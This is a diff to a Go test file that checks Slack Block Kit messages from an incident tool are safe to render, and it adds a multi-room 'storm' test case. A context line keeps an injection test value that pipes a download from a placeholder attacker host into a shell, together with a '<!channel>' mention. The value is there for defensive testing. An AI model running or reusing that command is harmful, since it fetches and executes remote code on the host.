@@ -179,6 +179,7 @@ func blocksViews() []struct {
 				`label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
 			Alerts: []incident.Alert{evil, evil2}}},
 		{"declared", slackmsg.SummaryView{Incident: declared, Now: blocksNow}},
+		{"storm-room", stormView(8, func(i int) string { return fmt.Sprintf("service-%02d", i) })},
 	}
 }
 
@@ -324,6 +325,9 @@ func TestSummaryBlocksSafe(t *testing.T) {
 			for i, obj := range textObjects(t, blocks) {
 				text, _ := obj["text"].(string)
 				where := fmt.Sprintf("text %d", i)
+				for _, l := range tc.v.Linked { // a storm links its war rooms' channels
+					text = strings.ReplaceAll(text, "<#"+l.SlackChannelID+">", "")
+				}
 				checkMrkdwn(t, where, text, users, urls)
 				if obj["type"] == "mrkdwn" && obj["verbatim"] != true {
 					t.Errorf("%s: mrkdwn without verbatim: Slack would parse bare @mentions in %.80q", where, text)
